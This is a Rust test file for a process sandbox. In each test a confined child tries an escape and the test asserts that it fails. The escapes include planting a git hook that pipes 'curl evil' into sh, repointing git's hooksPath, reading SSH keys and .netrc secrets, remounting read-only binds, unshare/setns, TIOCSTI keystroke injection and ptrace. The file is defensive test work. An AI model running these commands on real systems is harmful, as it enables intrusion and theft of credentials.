//! The sandbox tried as an attacker would: each test's child script tries
//! one escape, and the test asserts that it failed and left nothing behind;
//! then the positive tests show that what a test suite needs still works.
//!
//! Every run is a real confined child on this kernel. The tests that need
//! the ratchet side in a process of its own (to `SIGKILL` it, or to give it
//! an environment) re-run this test binary as [`ratchet_side`].

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use super::policy::default_hidden;
use super::*;
use crate::process::{Captured, Ended, run_captured, run_logged};

const PYTHON: &str = "/usr/bin/python3";

/// A work tree with ratchet's protected folders, a fake HOME with a secret
/// and a checkpoint, and a folder outside both.
struct Ws {
    _dir: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
    outside: PathBuf,
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git").args(args).current_dir(dir).output().expect("git is installed");
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

impl Ws {
    fn new() -> Ws {
        assert!(Path::new(PYTHON).exists(), "the sandbox tests need {PYTHON}");
        let dir = tempfile::tempdir().unwrap();
        let base = dir.path().canonicalize().unwrap();
        let (root, home, outside) = (base.join("repo"), base.join("home"), base.join("outside"));
        for d in [&root, &home, &outside] {
            std::fs::create_dir_all(d).unwrap();
        }
        git(&root, &["init", "-q", "-b", "main"]);
        let files = [
            (root.join(".git/hooks/README"), "hooks\n"),
            (root.join("config/rails.toml"), "version = 1\n"),
            (root.join("intents/i.md"), "intent\n"),
            (root.join("golden/g.json"), "{}\n"),
            (root.join("logs/steps.jsonl"), "{\"seq\":1}\n"),
            (root.join(".ratchet/keys.toml"), "server_secret = \"s3cr3t\"\n"),
            (root.join("src/lib.rs"), "// code\n"),
            (home.join(".ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n"),
            (home.join(".netrc"), "machine x password hunter2\n"),
            (home.join(".config/ratchet/agent.key"), "{\"format\":\"ratchet-agent-key\"}\n"),
            (home.join("notes.txt"), "not a secret\n"),
            (home.join(".local/state/ratchet/abc/checkpoint"), "42 deadbeef\n"),
        ];
        for (path, content) in files {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, content).unwrap();
        }
        Ws { _dir: dir, root, home, outside }
    }

    /// What ratchet passes for a workspace, with this test's HOME.
    fn policy(&self) -> Policy {
        let home = self.home.clone();
        let mut hidden = default_hidden(|name| (name == "HOME").then(|| home.clone().into_os_string()));
        hidden.extend([self.root.join(".ratchet"), self.home.join(".local/state/ratchet")]);
        Policy {
            read_only: [".git", "config", "intents", "golden", "logs"].iter().map(PathBuf::from).collect(),
            hidden,
            ..Policy::new(&self.root)
        }
    }

    fn sh(&self, script: &str) -> Command {
        let mut cmd = Command::new("sh");
        cmd.arg("-c").arg(script).current_dir(&self.root).env("HOME", &self.home);
        cmd
    }

    fn run(&self, policy: &Policy, script: &str) -> Captured {
        self.run_for(policy, script, Duration::from_secs(20))
    }

    fn run_for(&self, policy: &Policy, script: &str, timeout: Duration) -> Captured {
        let cmd = policy.confine(self.sh(script)).expect("the sandbox is available here");
        run_captured(cmd, b"", timeout, 1 << 20).expect("the child starts")
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.root.join(rel)).unwrap()
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Asserts the run failed, and shows why.
fn blocked(c: &Captured, why: &str) {
    assert!(!c.ended.success(), "the escape worked: {:?} {} {}", c.ended, text(&c.stdout), text(&c.stderr));
    let err = text(&c.stderr);
    assert!(err.contains(why), "expected {why:?} in: {err}");
}

// ---------------------------------------------------------------- files

#[test]
fn a_child_cannot_plant_a_git_hook() {
    let ws = Ws::new();
    let c = ws.run(&ws.policy(), "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit");
    blocked(&c, "Read-only file system");
    assert!(!ws.root.join(".git/hooks/pre-commit").exists());
}

#[test]
fn a_child_cannot_rewrite_git_config() {
    let ws = Ws::new();
    let before = ws.read(".git/config");
    let c = ws.run(&ws.policy(), "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config");
    blocked(&c, "Read-only file system");
    assert_eq!(ws.read(".git/config"), before);
}

#[test]
fn a_child_cannot_rewrite_the_log_the_rails_or_the_intents() {
    let ws = Ws::new();
    for (file, before) in [("logs/steps.jsonl", "{\"seq\":1}\n"), ("config/rails.toml", "version = 1\n")] {
        let c = ws.run(&ws.policy(), &format!("echo pwned > {file}"));
        blocked(&c, "Read-only file system");
        assert_eq!(ws.read(file), before);
    }
    for script in ["rm logs/steps.jsonl", "mv golden/g.json src/", "touch intents/new.md", "mkdir logs/x"] {
        let c = ws.run(&ws.policy(), script);
        assert!(!c.ended.success(), "{script} worked");
    }
    assert!(ws.root.join("golden/g.json").exists() && !ws.root.join("intents/new.md").exists());
}

#[test]
fn a_child_cannot_touch_the_checkpoint_in_the_state_dir() {
    let ws = Ws::new();
    let checkpoint = ws.home.join(".local/state/ratchet/abc/checkpoint");
    let c = ws.run(&ws.policy(), &format!("echo '0 0000' > {}", checkpoint.display()));
    assert!(!c.ended.success(), "{}", text(&c.stderr));
    let c = ws.run(&ws.policy(), &format!("ls -A {}", checkpoint.parent().unwrap().parent().unwrap().display()));
    assert!(text(&c.stdout).trim().is_empty(), "the state dir is visible: {}", text(&c.stdout));
    assert_eq!(std::fs::read_to_string(&checkpoint).unwrap(), "42 deadbeef\n");
}

#[test]
fn a_child_cannot_read_ratchets_keys_or_the_users_secrets() {
    let ws = Ws::new();
    let c = ws.run(&ws.policy(), "cat .ratchet/keys.toml");
    blocked(&c, "No such file");
    for secret in [".ssh/id_ed25519", ".netrc", ".config/ratchet/agent.key"] {
        let c = ws.run(&ws.policy(), &format!("cat \"$HOME/{secret}\""));
        let out = text(&c.stdout);
        assert!(
            !out.contains("PRIVATE KEY") && !out.contains("hunter2") && !out.contains("ratchet-agent-key"),
            "{out}"
        );
    }
    // HOME itself stays readable: only the secrets are covered.
    let c = ws.run(&ws.policy(), "cat \"$HOME/notes.txt\" && ls -A \"$HOME/.ssh\" | wc -l");
    assert_eq!(text(&c.stdout), "not a secret\n0\n", "{}", text(&c.stderr));
}

#[test]
fn a_child_writes_nowhere_outside_the_tree_its_temp_dir_and_declared_caches() {
    let ws = Ws::new();
    for target in [ws.home.join("notes.txt"), ws.home.join("new"), PathBuf::from("/etc/ratchet-sandbox-test")] {
        let c = ws.run(&ws.policy(), &format!("echo pwned > {}", target.display()));
        assert!(!c.ended.success(), "wrote {}", target.display());
    }
    assert_eq!(std::fs::read_to_string(ws.home.join("notes.txt")).unwrap(), "not a secret\n");
    assert!(!ws.home.join("new").exists() && !Path::new("/etc/ratchet-sandbox-test").exists());
    // A folder next to the tree is not even there.
    let c = ws.run(&ws.policy(), &format!("ls {}", ws.outside.display()));
    blocked(&c, "No such file");
}

#[test]
fn a_child_cannot_undo_the_read_only_binds() {
    let ws = Ws::new();
    let before = ws.read(".git/config");
    for script in [
        "umount .git",
        "umount -l .git",
        "mount -o remount,rw,bind .git",
        "mount --bind src .git",
        "mount -t tmpfs none .git",
    ] {
        let c = ws.run(&ws.policy(), &format!("{script} && echo pwned > .git/config"));
        assert!(!c.ended.success(), "{script} worked");
    }
    // The system calls themselves, not just the tools.
    let py = r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, call in [
    ("umount2", lambda: libc.umount2(b".git", 2)),
    ("mount", lambda: libc.mount(None, b".git", None, 32 | 4096 | 0, None)),  # MS_REMOUNT|MS_BIND, read-write
]:
    rc = call()
    print(name, rc, os.strerror(ctypes.get_errno()) if rc else "ok")
"#;
    let c = ws.run(&ws.policy(), &format!("{PYTHON} -c '{py}'"));
    assert_eq!(text(&c.stdout), "umount2 -1 Operation not permitted\nmount -1 Operation not permitted\n");
    assert_eq!(ws.read(".git/config"), before);
}

#[test]
fn a_child_cannot_unshare_or_setns_its_way_out() {
    let ws = Ws::new();
    for script in [
        "unshare -U -r sh -c 'umount .git'",
        "unshare -m true",
        "unshare -n true",
        "unshare -p -f true",
        "nsenter -t 1 -m true",
    ] {
        let c = ws.run(&ws.policy(), script);
        assert!(!c.ended.success(), "{script} worked: {}", text(&c.stdout));
    }
    let py = r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/proc/self/ns/mnt", os.O_RDONLY)
print("setns", libc.setns(fd, 0), os.strerror(ctypes.get_errno()))
print("unshare", libc.unshare(0x10000000), os.strerror(ctypes.get_errno()))
"#;
    let c = ws.run(&ws.policy(), &format!("{PYTHON} -c '{py}'"));
    assert_eq!(text(&c.stdout), "setns -1 Operation not permitted\nunshare -1 Operation not permitted\n");
}

#[test]
fn a_child_has_no_capabilities_and_no_way_to_regain_them() {
    let ws = Ws::new();
    let c = ws.run(&ws.policy(), "grep -E '^(Cap|NoNewPrivs|Seccomp:)' /proc/self/status");
    assert_eq!(
        text(&c.stdout),
        "CapInh:\t0000000000000000\nCapPrm:\t0000000000000000\nCapEff:\t0000000000000000\n\
         CapBnd:\t0000000000000000\nCapAmb:\t0000000000000000\nNoNewPrivs:\t1\nSeccomp:\t2\n"
    );
}

// ---------------------------------------------------------------- network and sockets

/// A loopback server: whether anyone connected within the run.
fn listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    (l, port)
}

const CONNECT_TCP: &str = r#"
import os, socket
s = socket.socket()
s.settimeout(3)
s.connect(("127.0.0.1", int(os.environ["RATCHET_TEST_PORT"])))
s.sendall(b"hi")
print("connected")
"#;

#[test]
fn a_child_cannot_reach_a_loopback_server_on_the_host() {
    let ws = Ws::new();
    let (l, port) = listener();
    let mut cmd = ws.sh(&format!("{PYTHON} -c '{CONNECT_TCP}'"));
    cmd.env("RATCHET_TEST_PORT", port.to_string());
    let c = run_captured(ws.policy().confine(cmd).unwrap(), b"", Duration::from_secs(20), 4096).unwrap();
    blocked(&c, "Connection refused");
    assert!(l.accept().is_err(), "the server was reached");
}

#[test]
fn with_network_on_a_child_reaches_the_loopback_server() {
    let ws = Ws::new();
    let (l, port) = listener();
    let mut cmd = ws.sh(&format!("{PYTHON} -c '{CONNECT_TCP}'"));
    cmd.env("RATCHET_TEST_PORT", port.to_string());
    let confined = ws.policy().network(true).confine(cmd).unwrap();
    assert!(confined.enforced().network && !confined.enforced().layers.contains(&"net_ns".to_string()));
    let c = run_captured(confined, b"", Duration::from_secs(20), 4096).unwrap();
    assert_eq!(text(&c.stdout), "connected\n", "{}", text(&c.stderr));
    let (mut conn, _) = l.accept().expect("the child connected");
    let mut got = String::new();
    conn.set_nonblocking(false).unwrap();
    conn.read_to_string(&mut got).unwrap();
    assert_eq!(got, "hi");
}

#[test]
fn without_network_loopback_works_inside_the_sandbox() {
    let ws = Ws::new();
    let py = r#"
import socket
a = socket.socket(); a.bind(("127.0.0.1", 0)); a.listen(1)
b = socket.create_connection(a.getsockname(), timeout=3); c, _ = a.accept()
b.sendall(b"ok"); print(c.recv(2).decode())
"#;
    let c = ws.run(&ws.policy(), &format!("{PYTHON} -c '{py}'"));
    assert_eq!(text(&c.stdout), "ok\n", "{}", text(&c.stderr));
}

const CONNECT_UNIX: &str = r#"
import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect(os.environ["RATCHET_TEST_SOCKET"])
s.sendall(b"hi")
print("connected")
"#;

fn unix_attack(ws: &Ws, policy: &Policy, path: &Path) -> (Captured, bool) {
    let l = UnixListener::bind(path).unwrap();
    l.set_nonblocking(true).unwrap();
    let mut cmd = ws.sh(&format!("{PYTHON} -c '{CONNECT_UNIX}'"));
    cmd.env("RATCHET_TEST_SOCKET", path);
    let c = run_captured(policy.confine(cmd).unwrap(), b"", Duration::from_secs(20), 4096).unwrap();
    let reached = l.accept().is_ok();
    let _ = std::fs::remove_file(path);
    (c, reached)
}

#[test]
fn a_child_cannot_reach_a_unix_socket_outside_the_tree() {
    let ws = Ws::new();
    // An agent's socket in a temp folder (ssh-agent, tmux, X11 live there).
    let (c, reached) = unix_attack(&ws, &ws.policy(), &ws.outside.join("agent.sock"));
    blocked(&c, "No such file");
    assert!(!reached);
    // With the network on too: sockets are not the network.
    let (c, reached) = unix_attack(&ws, &ws.policy().network(true), &ws.outside.join("agent.sock"));
    blocked(&c, "No such file");
    assert!(!reached);
}

#[test]
fn a_child_cannot_reach_a_system_socket_under_run() {
    let ws = Ws::new();
    let path = PathBuf::from(format!("/run/ratchet-sandbox-test-{}.sock", std::process::id()));
    let (c, reached) = unix_attack(&ws, &ws.policy().network(true), &path);
    blocked(&c, "No such file");
    assert!(!reached);
}

#[test]
fn a_child_cannot_reach_the_socket_ssh_auth_sock_names() {
    let ws = Ws::new();
    let sock = ws.home.join("agent.sock");
    let mut policy = ws.policy();
    let sock2 = sock.clone();
    policy.hidden = default_hidden(|name| (name == "SSH_AUTH_SOCK").then(|| sock2.clone().into_os_string()));
    let (c, reached) = unix_attack(&ws, &policy, &sock);
    assert!(!c.ended.success() && !reached, "{}", text(&c.stdout));
}

// ---------------------------------------------------------------- terminal

/// A pseudo-terminal of the host: (master, slave, slave's path).
fn pty() -> (std::fs::File, std::fs::File, PathBuf) {
    use std::os::fd::FromRawFd;
    // SAFETY: the posix_openpt dance; every result is checked.
    unsafe {
        let m = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC);
        assert!(m >= 0 && libc::grantpt(m) == 0 && libc::unlockpt(m) == 0);
        let mut name = [0 as libc::c_char; 128];
        assert_eq!(libc::ptsname_r(m, name.as_mut_ptr(), name.len()), 0);
        let path = PathBuf::from(std::ffi::CStr::from_ptr(name.as_ptr()).to_string_lossy().into_owned());
        let master = std::fs::File::from_raw_fd(m);
        let slave = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .custom_flags(libc::O_NOCTTY | libc::O_NONBLOCK)
            .open(&path)
            .unwrap();
        (master, slave, path)
    }
}

#[test]
fn a_child_cannot_open_dev_tty_or_the_hosts_ptys() {
    let ws = Ws::new();
    let (_m, _s, path) = pty();
    let py = r#"
import os, sys, errno
for path in sys.argv[1:]:
    try:
        os.open(path, os.O_RDWR | os.O_NOCTTY)
        print(path, "opened")
    except OSError as e:
        print(errno.errorcode[e.errno])
"#;
    let c = ws.run(&ws.policy(), &format!("{PYTHON} -c '{py}' /dev/tty {}", path.display()));
    assert_eq!(text(&c.stdout), "ENOENT\nENOENT\n", "{}", text(&c.stderr));
    // Not a member of ratchet's session, nor of any with a terminal.
    let c = ws.run(&ws.policy(), "ps -o tty= -p $$; ps -o sid= -p $$");
    assert_eq!(text(&c.stdout).split_whitespace().collect::<Vec<_>>(), ["?", "1"]);
}

#[test]
fn a_child_cannot_push_keystrokes_into_an_inherited_terminal() {
    let ws = Ws::new();
    let (_master, slave, _) = pty();
    let py = r#"
import fcntl, termios, os, errno
for name, req in [("TIOCSTI", termios.TIOCSTI), ("TIOCLINUX", 0x541C)]:
    try:
        fcntl.ioctl(2, req, b"\n")
        print(name, "worked")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
"#;
    let mut confined = ws.policy().confine(ws.sh(&format!("{PYTHON} -c '{py}'"))).unwrap();
    confined.command().stdin(Stdio::null()).stdout(Stdio::piped()).stderr(slave.try_clone().unwrap());
    let out = confined.spawn().unwrap().wait_with_output().unwrap();
    assert_eq!(text(&out.stdout), "TIOCSTI EPERM\nTIOCLINUX EPERM\n");
    // Nothing waits in the terminal's input queue.
    let mut buf = [0u8; 16];
    let err = (&slave).read(&mut buf).expect_err("no input was injected");
    assert_eq!(err.kind(), std::io::ErrorKind::WouldBlock);
}

#[test]
fn seccomp_refuses_tiocsti_even_on_the_childs_own_terminal() {
    // The kernel allows TIOCSTI on one's controlling terminal (where
    // dev.tty.legacy_tiocsti is on): only the filter stands in the way.
    let ws = Ws::new();
    let py = r#"
import fcntl, termios, os, errno
os.setsid()
m, s = os.openpty()
fcntl.ioctl(s, termios.TIOCSCTTY, 0)
try:
    fcntl.ioctl(s, termios.TIOCSTI, b"x")
    print("worked")
except OSError as e:
    print(errno.errorcode[e.errno])
"#;
    let c = ws.run(&ws.policy(), &format!("{PYTHON} -c '{py}'"));
    assert_eq!(text(&c.stdout), "EPERM\n", "{}", text(&c.stderr));
}

// ---------------------------------------------------------------- processes

/// Leaves two writers behind, and waits until both run: one in a new
/// session, one double-forked. Each writes `late-<tag>-*` into the tree two
/// seconds later, unless killed.
fn leave_writers(tag: &str) -> String {
    format!(
        "setsid sh -c 'touch ready-{tag}-1; sleep 2; echo late > late-{tag}-setsid' < /dev/null > /dev/null 2>&1 &\n\
         ( sh -c 'touch ready-{tag}-2; sleep 2; echo late > late-{tag}-fork' < /dev/null > /dev/null 2>&1 & ) \n\
         while [ ! -e ready-{tag}-1 ] || [ ! -e ready-{tag}-2 ]; do sleep 0.01; done\n\
         echo started"
    )
}

fn wait_then_late_files(ws: &Ws, tag: &str) -> Vec<String> {
    std::thread::sleep(Duration::from_millis(2800));
    std::fs::read_dir(&ws.root)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(&format!("late-{tag}")))
        .collect()
}

#[test]
fn setsid_and_double_forked_children_die_with_the_run() {
    let ws = Ws::new();
    let c = ws.run(&ws.policy(), &leave_writers("a"));
    assert_eq!((c.ended.clone(), text(&c.stdout)), (Ended::Exited(0), "started\n".into()));
    assert_eq!(wait_then_late_files(&ws, "a"), Vec::<String>::new());
}

#[test]
fn unconfined_the_setsid_child_outlives_the_run() {
    // The control for the test above: the script does leave a writer behind
    // when only the process group is killed (the double-forked one stays in
    // the group and dies; the one in a new session does not).
    let ws = Ws::new();
    let c = ws.run(&ws.policy().mode(Mode::Off), &leave_writers("b"));
    assert_eq!(c.ended, Ended::Exited(0));
    assert_eq!(wait_then_late_files(&ws, "b"), ["late-b-setsid"]);
}

#[test]
fn everything_dies_when_the_run_is_killed_at_its_deadline() {
    let ws = Ws::new();
    let start = Instant::now();
    let c = ws.run_for(&ws.policy(), &format!("{}\nsleep 30.5001", leave_writers("c")), Duration::from_millis(500));
    assert_eq!(c.ended, Ended::TimedOut);
    assert!(start.elapsed() < Duration::from_secs(3), "{:?}", start.elapsed());
    assert_eq!(wait_then_late_files(&ws, "c"), Vec::<String>::new());
    assert_eq!(processes_with("30.5001"), 0);
}

/// How many processes on the host have `marker` in their command line.
fn processes_with(marker: &str) -> usize {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().parse::<u32>().is_ok())
        .filter(|e| std::fs::read(e.path().join("cmdline")).is_ok_and(|c| text(&c).contains(marker)))
        .count()
}

#[test]
fn a_child_cannot_signal_or_trace_processes_outside() {
    let ws = Ws::new();
    let mut outside = Command::new("sleep").arg("30.5002").spawn().unwrap();
    let c = ws.run(&ws.policy(), &format!("kill -KILL {}; kill -KILL -1; sleep 0.2", outside.id()));
    assert_eq!(c.ended, Ended::Exited(0));
    std::thread::sleep(Duration::from_millis(100));
    assert!(outside.try_wait().unwrap().is_none(), "a process outside was killed");
    let _ = outside.kill();
    let _ = outside.wait();
    let py = r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pid = int(os.environ["RATCHET_TEST_PID"])
print("ptrace", libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
print("kill", libc.kill(pid, 0), os.strerror(ctypes.get_errno()))
print("processes", len([p for p in os.listdir("/proc") if p.isdigit()]))
"#;
    let mut cmd = ws.sh(&format!("{PYTHON} -c '{py}'"));
    cmd.env("RATCHET_TEST_PID", std::process::id().to_string());
    let c = run_captured(ws.policy().confine(cmd).unwrap(), b"", Duration::from_secs(20), 4096).unwrap();
    // ratchet has no pid in there; only the sandbox's init, sh and python exist.
    assert_eq!(
        text(&c.stdout),
        "ptrace -1 No such process\nkill -1 No such process\nprocesses 3\n",
        "{}",
        text(&c.stderr)
    );
}

#[test]
fn everything_dies_when_the_ratchet_side_is_killed() {
    let ws = Ws::new();
    let script = format!("{}\necho started > started\nsleep 30.5003", leave_writers("d"));
    let out = ws.outside.join("result.json");
    let mut side = ratchet_side_process(&Spec { root: ws.root.clone(), script, out: out.clone(), ..Spec::default() })
        .spawn()
        .unwrap();
    let start = Instant::now();
    while !ws.root.join("started").exists() {
        assert!(start.elapsed() < Duration::from_secs(20), "the run never started");
        assert!(side.try_wait().unwrap().is_none(), "the ratchet side ended early");
        std::thread::sleep(Duration::from_millis(20));
    }
    side.kill().unwrap();
    side.wait().unwrap();
    assert_eq!(wait_then_late_files(&ws, "d"), Vec::<String>::new());
    assert_eq!(processes_with("30.5003"), 0);
}

// ---------------------------------------------------------------- environment

#[test]
fn secrets_in_ratchets_environment_never_reach_a_child_unless_listed() {
    let ws = Ws::new();
    let out = ws.outside.join("result.json");
    let spec = Spec {
        root: ws.root.clone(),
        script: "env | sort".into(),
        env: vec!["OPENAI_API_KEY".into()],
        out: out.clone(),
    };
    let mut side = ratchet_side_process(&spec);
    side.env("LOOPKIT_AGENT_KEY", "lk_agent_topsecret")
        .env("GITHUB_TOKEN", "ghp_topsecret")
        .env("AWS_SECRET_ACCESS_KEY", "aws_topsecret")
        .env("OPENAI_API_KEY", "sk-listed")
        .env("LC_ALL", "C");
    let result = finish(side, &out);
    let env = result["stdout"].as_str().unwrap();
    assert!(!env.contains("topsecret"), "{env}");
    assert!(env.contains("OPENAI_API_KEY=sk-listed\n"), "{env}");
    assert!(env.contains("LC_ALL=C\n") && env.contains("TMPDIR=/tmp\n"), "{env}");
    assert_eq!(result["enforced"]["env"], serde_json::json!(["OPENAI_API_KEY"]));
}

#[test]
fn variables_set_on_the_command_pass_only_if_ratchets_own_or_listed() {
    let ws = Ws::new();
    let mut cmd = ws.sh("env | sort");
    cmd.env("RATCHET_STEP_ID", "s7").env("GH_TOKEN", "ghp_x").env("CARGO_TERM_COLOR", "never");
    let confined = ws.policy().env(["CARGO_TERM_COLOR"]).confine(cmd).unwrap();
    let c = run_captured(confined, b"", Duration::from_secs(20), 4096).unwrap();
    let env = text(&c.stdout);
    assert!(env.contains("RATCHET_STEP_ID=s7\n") && env.contains("CARGO_TERM_COLOR=never\n"), "{env}");
    assert!(!env.contains("GH_TOKEN"), "{env}");
}

// ---------------------------------------------------------------- what still works

#[test]
fn the_tree_is_writable_new_files_at_its_root_included() {
    let ws = Ws::new();
    let c = ws.run(
        &ws.policy(),
        "echo '// better' >> src/lib.rs && echo new > NEW.md && mkdir -p target/x && touch target/x/y",
    );
    assert_eq!(c.ended, Ended::Exited(0), "{}", text(&c.stderr));
    assert_eq!(ws.read("src/lib.rs"), "// code\n// better\n");
    assert_eq!(ws.read("NEW.md"), "new\n");
    assert!(ws.root.join("target/x/y").exists());
}

#[test]
fn the_temp_dir_is_private_writable_and_gone_after_the_run() {
    let ws = Ws::new();
    let marker = format!("ratchet-sandbox-test-{}", std::process::id());
    let policy = ws.policy();
    let mut confined = policy
        .confine(ws.sh(&format!(
            "echo x > /tmp/{marker} && echo y > \"$TMPDIR/b\" && mkdir /tmp/d && chmod 0500 /tmp/d && \
             echo x > /var/tmp/{marker} && echo s > /dev/shm/{marker} && ls -A /tmp | grep -v '^\\.tmp'"
        )))
        .unwrap();
    let work = confined.live.as_ref().unwrap().workdir().to_path_buf();
    confined.command().stdout(Stdio::piped());
    let out = confined.spawn().unwrap().wait_with_output().unwrap();
    assert!(out.status.success());
    assert_eq!(text(&out.stdout), format!("b\nd\n{marker}\n"));
    assert!(!Path::new("/tmp").join(&marker).exists() && !Path::new("/var/tmp").join(&marker).exists());
    // The private directories were a tmpfs in the child's mount namespace:
    // nothing of them is on the host's disk.
    assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0);
}

#[test]
fn a_declared_writable_cache_is_writable() {
    let ws = Ws::new();
    let cache = ws.outside.join("cache");
    let policy = ws.policy().writable([&cache]);
    let c = ws.run(&policy, &format!("echo built > {}/artifact", cache.display()));
    assert_eq!(c.ended, Ended::Exited(0), "{}", text(&c.stderr));
    assert_eq!(std::fs::read_to_string(cache.join("artifact")).unwrap(), "built\n");
}

#[test]
fn exit_codes_and_signals_propagate() {
    let ws = Ws::new();
    assert_eq!(ws.run(&ws.policy(), "exit 7").ended, Ended::Exited(7));
    assert_eq!(ws.run(&ws.policy(), "true").ended, Ended::Exited(0));
    assert_eq!(ws.run(&ws.policy(), "kill -TERM $$").ended, Ended::Signalled(libc::SIGTERM));
    assert_eq!(ws.run(&ws.policy(), "kill -SEGV $$").ended, Ended::Signalled(libc::SIGSEGV));
}

#[test]
fn stdin_stdout_and_stderr_are_as_before() {
    let ws = Ws::new();
    let confined = ws.policy().confine(ws.sh("tr a-z A-Z; echo err >&2")).unwrap();
    let c = run_captured(confined, b"context", Duration::from_secs(20), 4096).unwrap();
    assert_eq!((text(&c.stdout), text(&c.stderr)), ("CONTEXT".into(), "err\n".into()));

    let log_path = ws.outside.join("checks.log");
    let log = std::fs::File::create(&log_path).unwrap();
    let confined = ws.policy().confine(ws.sh("echo out; echo err >&2; cat; exit 3")).unwrap();
    let (ended, _) = run_logged(confined, &log, Duration::from_secs(20), &mut |_| {}).unwrap();
    assert_eq!(ended, Ended::Exited(3));
    // The checks read /dev/null: `cat` ends at once.
    assert_eq!(std::fs::read_to_string(&log_path).unwrap(), "out\nerr\n");
}

#[test]
fn a_program_outside_the_tree_in_a_temp_folder_still_runs() {
    let ws = Ws::new();
    let agent = ws.outside.join("agent.sh");
    std::fs::write(&agent, "#!/bin/sh\necho '{\"ok\":1}'\n").unwrap();
    std::fs::set_permissions(&agent, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mut cmd = Command::new(&agent);
    cmd.current_dir(&ws.root);
    let c = run_captured(ws.policy().confine(cmd).unwrap(), b"", Duration::from_secs(20), 4096).unwrap();
    assert_eq!(text(&c.stdout), "{\"ok\":1}\n", "{}", text(&c.stderr));
}

#[test]
fn a_script_or_a_program_on_path_in_a_temp_folder_is_visible_but_nothing_beside_it() {
    // A clone under /tmp: `python3 /tmp/.../agent.py`, or a program found on
    // a PATH entry there. Only what the command names is kept visible.
    let ws = Ws::new();
    let script = ws.outside.join("agent.sh");
    std::fs::write(&script, "echo named; cat \"$(dirname \"$0\")/secret.txt\" 2>/dev/null || echo hidden\n").unwrap();
    let beside = ws.outside.join("secret.txt");
    std::fs::write(&beside, "SECRET\n").unwrap();
    let mut cmd = Command::new("sh");
    cmd.arg(&script).current_dir(&ws.root);
    let c = run_captured(ws.policy().confine(cmd).unwrap(), b"", Duration::from_secs(20), 4096).unwrap();
    assert_eq!(text(&c.stdout), "named\nhidden\n", "{}", text(&c.stderr));
    let bin = ws.outside.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let tool = bin.join("fake-tool");
    std::fs::write(&tool, "#!/bin/sh\necho found\n").unwrap();
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mut cmd = Command::new("fake-tool");
    cmd.current_dir(&ws.root).env("PATH", format!("{}:/usr/bin:/bin", bin.display()));
    let c = run_captured(ws.policy().confine(cmd).unwrap(), b"", Duration::from_secs(20), 4096).unwrap();
    assert_eq!(text(&c.stdout), "found\n", "{}", text(&c.stderr));
}

#[test]
fn a_missing_program_fails_to_spawn_as_before() {
    let ws = Ws::new();
    let mut cmd = Command::new(ws.root.join("no-such-program"));
    cmd.current_dir(&ws.root);
    let err = run_captured(ws.policy().confine(cmd).unwrap(), b"", Duration::from_secs(20), 4096).unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::NotFound);
}

#[test]
fn a_failing_set_up_names_its_stage() {
    let ws = Ws::new();
    let extra = ws.outside.join("toolchain");
    std::fs::create_dir_all(&extra).unwrap();
    let mut confined = ws.policy().readable([&extra]).confine(ws.sh("true")).unwrap();
    // The path goes away between the plan and the mount.
    std::fs::remove_dir(&extra).unwrap();
    let err = confined.spawn().unwrap_err();
    let inner = err.get_ref().and_then(|e| e.downcast_ref::<SandboxError>()).expect("a sandbox error");
    assert_eq!(crate::error::Coded::code(inner), "SANDBOX_SETUP");
    assert!(inner.to_string().contains(&format!("bind {}", extra.display())), "{inner}");
}

#[test]
fn a_policy_that_cannot_hold_is_refused_before_anything_runs() {
    let ws = Ws::new();
    let e = Policy::new(ws.root.join("no-such-tree")).confine(ws.sh("true")).err().expect("refused");
    assert_eq!(crate::error::Coded::code(&e), "SANDBOX_POLICY");
    assert!(e.to_string().contains("no-such-tree is not a directory that exists"), "{e}");
    // A writable path holding /tmp would make the private /tmp pointless.
    let e = ws.policy().writable(["/"]).confine(ws.sh("true")).err().expect("refused");
    assert!(e.to_string().contains("which the sandbox replaces with a private one"), "{e}");
    assert!(crate::error::Coded::hint(&e).is_some());
}

#[test]
fn mode_off_runs_unconfined_with_a_scrubbed_environment() {
    let ws = Ws::new();
    let mut cmd = ws.sh("echo x > .git/unconfined; env");
    cmd.env("GH_TOKEN", "ghp_x");
    let confined = ws.policy().mode(Mode::Off).confine(cmd).unwrap();
    assert_eq!(confined.enforced().sandbox, "off");
    let c = run_captured(confined, b"", Duration::from_secs(20), 4096).unwrap();
    assert_eq!(c.ended, Ended::Exited(0));
    assert!(ws.root.join(".git/unconfined").exists());
    assert!(!text(&c.stdout).contains("GH_TOKEN"));
}

#[test]
fn the_enforced_record_says_what_held() {
    let ws = Ws::new();
    let confined = ws.policy().confine(ws.sh("true")).unwrap();
    let e = confined.enforced();
